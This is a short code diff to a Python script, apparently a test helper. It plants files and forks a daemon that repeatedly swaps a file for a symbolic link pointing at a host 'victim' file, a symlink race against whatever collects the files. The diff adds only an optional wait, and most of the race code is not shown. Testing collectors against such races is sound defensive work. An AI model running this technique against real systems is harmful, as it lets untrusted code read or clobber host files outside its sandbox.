@@ -1,8 +1,9 @@
 # argv[1]: a file of the host. Leaves everything in the work directory that whoever collects files may stumble over, and a
-# daemon that goes on swapping a file for a link.
+# daemon that goes on swapping a file for a link. With a second argument it stays until it is ended.
 import os
 import socket
 import sys
+import time
 
 victim = sys.argv[1]
 open("good.txt", "w").write("good")
@@ -65,3 +66,5 @@ if os.fork() == 0:
                 pass
 while not os.path.lexists("swap.txt"):
     pass
+if len(sys.argv) > 2:
+    time.sleep(60)
